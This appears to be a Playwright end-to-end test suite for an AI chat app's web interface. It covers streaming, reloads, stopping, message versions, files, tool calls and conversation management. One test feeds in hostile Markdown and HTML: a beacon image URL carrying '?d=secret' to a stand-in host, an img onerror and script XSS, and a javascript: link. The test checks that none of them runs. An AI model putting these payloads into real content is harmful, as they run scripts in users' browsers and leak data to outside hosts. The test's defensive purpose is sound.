import type { Page } from "@playwright/test";
import { studioApi, type WorkflowDraft } from "./fixtures/studio-api";
import { expect, test } from "./fixtures/test";

const query = { name: "query", type: "string", required: true } as const;

/** Says something, works for a while, and says something more: a run that can be met in its middle. */
const slowTeller: WorkflowDraft = {
  inputs: [query],
  nodes: [
    { id: "start", type: "start", config: {} },
    { id: "first", type: "answer", title: "Begin", config: { template: "First about {{ inputs.query }}." } },
    {
      id: "think",
      type: "code",
      title: "Think it over",
      config: { language: "python", code: "import time\ntime.sleep(4)\nresult = 1\n", timeout_seconds: 30 },
    },
    { id: "last", type: "answer", title: "End", config: { template: "Last about {{ inputs.query }}." } },
  ],
  edges: [
    { source: "start", target: "first" },
    { source: "first", target: "think" },
    { source: "think", target: "last" },
  ],
};

const hostileText = [
  "![beacon](https://beacon.example/p.png?d=secret) and [a page](https://page.example/?d=secret)",
  "<img src=https://beacon.example/raw.png onerror=alert(1)><script>alert(1)</script>",
  "[trap](javascript:alert(1))",
].join("\n\n");

function sayer(template: string): WorkflowDraft {
  return {
    inputs: [query],
    nodes: [
      { id: "start", type: "start", config: {} },
      { id: "say", type: "answer", config: { template } },
    ],
    edges: [{ source: "start", target: "say" }],
  };
}

/** The chat as a person finds it: by what things are called. */
function chat(page: Page) {
  const list = page.getByRole("navigation", { name: "Conversations" });
  return {
    list,
    message: page.getByRole("textbox", { name: "Message" }),
    send: page.getByRole("button", { name: "Send", exact: true }),
    stop: page.getByRole("button", { name: "Stop", exact: true }),
    said: page.getByRole("article", { name: "You" }),
    answers: page.getByRole("article", { name: "Assistant" }),
    async ask(text: string): Promise<void> {
      await page.getByRole("textbox", { name: "Message" }).fill(text);
      await page.keyboard.press("Enter");
    },
    async act(title: string, action: string): Promise<void> {
      await list.getByRole("button", { name: `Actions for ${title}` }).click();
      await page.getByRole("menuitem", { name: action }).click();
    },
  };
}

function sessionIdOf(page: Page): string {
  return new URL(page.url()).pathname.split("/").at(-1) ?? "";
}

test("a question is answered as it streams, its steps can be opened, and a reload shows the same", async ({ page }) => {
  const { message, send, said, answers, list, ask } = chat(page);
  await page.goto("/chat?app=policy-answerer");
  await ask("How long can I return something?");
  await expect(said).toHaveText("How long can I return something?");
  await expect(page).toHaveURL(/\/chat\/[\w-]+$/);
  await expect(answers).toContainText("30 days");
  await expect(send).toBeVisible();
  await expect(message).toBeFocused();
  await expect(list.getByRole("link", { name: /How long can I return something/ })).toHaveAttribute(
    "aria-current",
    "page",
  );

  await answers.getByRole("button", { name: /Find the policy/ }).click();
  const steps = answers.getByRole("list", { name: "Steps" });
  await expect(steps.getByRole("listitem")).toHaveCount(3);
  await expect(steps).toContainText("Completed");
  await expect(answers.getByRole("link", { name: "Open the run" })).toHaveAttribute("href", /^\/runs\//);

  const words = answers.getByText("30 days");
  const answer = await words.innerText();
  await page.reload();
  await expect(words).toHaveText(answer);
  await expect(said).toHaveCount(1);
});

test("a reload in mid-answer loses nothing, and the whole equals what is stored", async ({ page, baseURL }) => {
  const api = studioApi(String(baseURL));
  const code = await api.publish(await api.create("Slow teller", slowTeller));
  const { stop, send, said, answers, ask } = chat(page);
  await page.goto(`/chat?app=${code}`);
  await ask("trains");
  await expect(answers).toContainText("First about trains.");
  await expect(page).toHaveURL(/\/chat\/[\w-]+$/);

  await page.reload();
  await expect(stop).toBeVisible();
  await expect(answers).toContainText("First about trains.");
  await expect(answers).not.toContainText("Last about trains.");

  await expect(answers).toContainText("Last about trains.", { timeout: 40_000 });
  await expect(send).toBeVisible();
  await expect(said).toHaveCount(1);
  const stored = await api.trpc.sessions.get.query({ id: sessionIdOf(page) });
  expect(stored.messages.map(({ role, content }) => ({ role, content }))).toEqual([
    { role: "user", content: "trains" },
    { role: "assistant", content: "First about trains." },
    { role: "assistant", content: "Last about trains." },
  ]);
  await page.reload();
  await expect(answers).toContainText("First about trains.");
  await expect(answers).toContainText("Last about trains.");
});

test("an answer stops at once and keeps what was said", async ({ page, baseURL }) => {
  const api = studioApi(String(baseURL));
  const code = await api.publish(await api.create("Stopped teller", slowTeller));
  const { stop, send, answers, said, ask } = chat(page);
  await page.goto(`/chat?app=${code}`);
  await ask("ships");
  await expect(answers).toContainText("First about ships.");
  await stop.click();
  await expect(answers).toContainText("Stopped.");
  await expect(send).toBeVisible();

  await answers.getByText("Stopped.").getByRole("button", { name: "Answer again" }).click();
  await expect(stop).toBeVisible();
  await expect(answers).toContainText("First about ships.");
  await page.keyboard.press("Escape");
  await expect(answers).toContainText("Stopped.");

  await page.reload();
  await expect(said).toHaveCount(1);
  await expect(answers).toContainText("Stopped.");
  await expect(answers.getByRole("group", { name: "Versions of this answer" })).toContainText("2 / 2");
  const { runs } = await api.trpc.sessions.get.query({ id: sessionIdOf(page) });
  expect(runs.map((run) => run.status)).toEqual(["cancelled"]);
});

test.describe("refused messages", () => {
  test.use({ expectedErrors: [/status of 409/] });

  test("a message that comes while another is answered goes back to where it was written", async ({
    page,
    baseURL,
  }) => {
    const api = studioApi(String(baseURL));
    const code = await api.publish(await api.create("Busy teller", slowTeller));
    const { message, answers, stop, ask, said } = chat(page);
    await page.goto(`/chat?app=${code}`);
    await ask("planes");
    await stop.click();
    await expect(answers).toContainText("Stopped.");
    // Somebody else goes on with the conversation, which this page has not noticed.
    await api.trpc.sessions.send.mutate({ sessionId: sessionIdOf(page), message: "boats" });
    await ask("cars");
    await expect(page.getByRole("alert").filter({ hasText: "still being answered" })).toBeVisible();
    await expect(message).toHaveValue("cars");
    // The page shows what it had not noticed.
    await expect(said).toHaveText(["planes", "boats"]);
    await stop.click();
    await expect(answers.last()).toContainText("Stopped.");
  });
});

test("a failed answer says why, and can be asked for again", async ({ page, baseURL }) => {
  const api = studioApi(String(baseURL));
  const unreachable: WorkflowDraft = {
    inputs: [query],
    nodes: [
      { id: "start", type: "start", config: {} },
      { id: "call", type: "tool", title: "Ask the warehouse", config: { url: "http://127.0.0.1:1/stock" } },
      { id: "say", type: "answer", config: { template: "{{ nodes.call.output.body }}" } },
    ],
    edges: [
      { source: "start", target: "call" },
      { source: "call", target: "say" },
    ],
  };
  const code = await api.publish(await api.create("Broken caller", unreachable));
  const { answers, said, ask } = chat(page);
  await page.goto(`/chat?app=${code}`);
  await ask("Is it there?");
  const failure = answers.getByRole("alert");
  await expect(failure).toContainText('"Ask the warehouse" failed');
  await expect(failure).toContainText("egress policy");
  await expect(failure.getByRole("link", { name: "Open the run" })).toHaveAttribute("href", /^\/runs\//);
  await failure.getByRole("button", { name: "Retry" }).click();
  await expect(answers.getByRole("alert")).toContainText("failed");
  await expect(said).toHaveText(["Is it there?"]);
});

test("a message is said differently, an answer asked for again, and all of it can be gone back to", async ({
  page,
  baseURL,
}) => {
  const api = studioApi(String(baseURL));
  const code = await api.publish(await api.create("Echo", sayer("You said {{ inputs.query }}.")));
  const { message, said, answers, send, ask } = chat(page);
  const messageVersions = page.getByRole("group", { name: "Versions of this message" });
  const answerVersions = page.getByRole("group", { name: "Versions of this answer" });
  await page.goto(`/chat?app=${code}`);
  await ask("one");
  await expect(answers).toContainText("You said one.");
  await ask("two");
  await expect(answers.last()).toContainText("You said two.");
  await expect(send).toBeVisible();

  await said.first().hover();
  await page.getByRole("button", { name: "Edit message" }).first().click();
  await page.getByRole("textbox", { name: "Edit message" }).fill("uno");
  await page.keyboard.press("Enter");
  await expect(said).toHaveText(["uno"]);
  await expect(answers).toContainText("You said uno.");
  await expect(messageVersions).toContainText("2 / 2");

  await answers.getByRole("button", { name: "Answer again" }).click();
  await expect(answerVersions).toContainText("2 / 2");
  await page.reload();
  await expect(answerVersions).toContainText("2 / 2");
  await page.getByRole("button", { name: "Earlier message" }).click();
  await expect(said).toHaveText(["one", "two"]);
  await expect(answers.last()).toContainText("You said two.");

  // The arrow up edits what was said last, and Escape leaves it as it was.
  await message.press("ArrowUp");
  await expect(page.getByRole("textbox", { name: "Edit message" })).toBeFocused();
  await page.keyboard.press("Escape");
  await expect(said).toHaveText(["one", "two"]);
  await expect(message).toBeFocused();
});

test.describe("files", () => {
  // Playwright's own trace asks for the preview's address, which the policy forbids.
  test.use({ expectedErrors: [/status of 415|Connecting to 'blob:/] });

  test("go with a message, are told to the model and shown in the history; a wrong one says why", async ({ page }) => {
    const { message, answers, send, ask } = chat(page);
    const files = page.getByRole("list", { name: "Files of the message" });
    await page.goto("/chat?app=policy-answerer");
    await expect(page.getByRole("button", { name: "Add files" })).toBeEnabled();
    await page.getByLabel("Files to add").setInputFiles([
      { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("The warehouse is in Rotterdam.") },
      { name: "photo.png", mimeType: "image/png", buffer: Buffer.from([0x7f, 0x45, 0x4c, 0x46]) },
    ]);
    await expect(files.getByRole("alert")).toContainText("can not be sent");
    await page.getByRole("button", { name: "Remove photo.png" }).click();
    await expect(files.getByRole("listitem")).toHaveCount(1);
    await ask("Where is the warehouse according to the file?");
    await expect(answers).toContainText("Rotterdam");
    await expect(send).toBeVisible();
    await expect(message).toHaveValue("");
    await page.reload();
    const link = page.getByRole("link", { name: /notes\.txt/ });
    await expect(link).toBeVisible();
    const download = page.waitForEvent("download");
    await link.click();
    expect((await download).suggestedFilename()).toBe("notes.txt");
  });
});

test("what a model thinks stands in a quiet line that opens", async ({ page }) => {
  const { answers, send, ask } = chat(page);
  await page.goto("/chat?app=policy-answerer");
  await ask("Think step by step. How long can I return something?");
  await expect(answers).toContainText("30 days");
  await expect(send).toBeVisible();
  const line = answers.getByRole("button", { name: "Thought it over" });
  await line.click();
  const thoughts = page.locator("[data-slot=reasoning] p");
  await expect(thoughts).toContainText("The question is");
  const told = await thoughts.innerText();
  await page.reload();
  await line.click();
  await expect(thoughts).toHaveText(told);
});

test("an agent's tools show what they were asked and what they answered", async ({ page }) => {
  const { answers, send, ask } = chat(page);
  await page.goto("/chat?app=shop-assistant");
  await ask("Where is order A-1003 and what is the weather in Oslo?");
  const order = answers.getByRole("button", { name: "Tool get_order, done" });
  await order.click();
  await expect(answers.getByRole("figure")).toHaveCount(2);
  await expect(answers).toContainText("Coffee grinder");
  await expect(send).toBeVisible();
  await page.reload();
  await expect(answers.getByRole("button", { name: "Tool get_weather, done" })).toBeVisible();
});

test("what an app asks for beyond the message is checked and kept for the next message", async ({ page }) => {
  const { answers, send, ask } = chat(page);
  await page.goto("/chat?app=score-router");
  const score = page.getByRole("textbox", { name: "Score" });
  await score.fill("many");
  await ask("Invoice");
  await expect(page.getByText("Write a number.")).toBeVisible();
  await expect(answers).toHaveCount(0);
  await score.fill("3");
  await send.click();
  await expect(answers).toContainText("needs a second look");
  await page.reload();
  await expect(score).toHaveValue("3");
});

test("conversations are renamed, pinned, found and deleted", async ({ page }) => {
  const { list, answers, ask, act } = chat(page);
  await page.goto("/chat?app=policy-answerer");
  await ask("When is delivery free of charge?");
  await expect(answers).toContainText("50 euros");
  await expect(page).toHaveURL(/\/chat\/[\w-]+$/);
  const id = sessionIdOf(page);

  await act("When is delivery free of charge?", "Rename");
  await page.getByRole("textbox", { name: "Name" }).fill("Delivery costs");
  await page.keyboard.press("Enter");
  await expect(page.getByRole("heading", { name: "Delivery costs" })).toBeVisible();
  await act("Delivery costs", "Pin");
  await expect(
    list.getByRole("region", { name: "Pinned" }).getByRole("link", { name: /Delivery costs/ }),
  ).toBeVisible();

  await list.getByRole("searchbox", { name: "Search conversations" }).fill("no such words");
  await expect(list.getByText('No conversation is called "no such words".')).toBeVisible();
  await list.getByRole("searchbox", { name: "Search conversations" }).fill("delivery co");
  await expect(list.getByRole("link", { name: /Delivery costs/ })).toBeVisible();

  await list.getByRole("link", { name: "New conversation" }).click();
  await expect(page.getByRole("heading", { name: "New conversation" })).toBeVisible();
  await expect(answers).toHaveCount(0);
  await list.getByRole("link", { name: /Delivery costs/ }).click();
  await expect(answers).toContainText("50 euros");

  await act("Delivery costs", "Delete");
  await page.getByRole("button", { name: "Delete conversation" }).click();
  await expect(page).toHaveURL(/\/chat$/);
  await expect(list.getByRole("link", { name: /Delivery costs/ })).toHaveCount(0);
  const answer = await page.request.get(`/api/v1/agent/sessions/${id}/history`);
  expect(answer.status()).toBe(404);
});

test("F-56 F-57 hostile Markdown runs nothing and asks no other host", async ({ page, baseURL }) => {
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (/^https?:/.test(request.url()) && new URL(request.url()).origin !== baseURL) foreign.push(request.url());
  });
  page.on("dialog", (dialog) => foreign.push(dialog.message()));
  const api = studioApi(String(baseURL));
  const code = await api.publish(await api.create("Hostile sayer", sayer(hostileText)));
  const { answers, send, ask } = chat(page);
  await page.goto(`/chat?app=${code}`);
  await ask("Go");
  await expect(send).toBeVisible();
  await expect(answers).toContainText("beacon: image from beacon.example is not loaded");
  await expect(answers).toContainText("<script>alert(1)</script>");
  await expect(answers.getByRole("link", { name: "trap" })).toHaveCount(0);

  await answers.getByRole("link", { name: "a page" }).click();
  const question = page.getByRole("dialog", { name: "Open page.example?" });
  await expect(question).toContainText("https://page.example/?d=secret");
  await question.getByRole("button", { name: "Cancel" }).click();
  expect(foreign).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
});

test("the chat fits a phone, with the conversations in a sheet @mobile", async ({ page }) => {
  const { message, send, answers } = chat(page);
  await page.goto("/chat?app=policy-answerer");
  await message.fill("What does the warranty cover?");
  await send.click();
  await expect(answers).toContainText("24 months");
  await page.getByRole("button", { name: "Show conversations" }).click();
  const sheet = page.getByRole("dialog", { name: "Chat" });
  await sheet.getByRole("link", { name: "New conversation" }).click();
  await expect(page.getByRole("heading", { name: "New conversation" })).toBeVisible();
  await expect(sheet).toBeHidden();
  expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0);
});
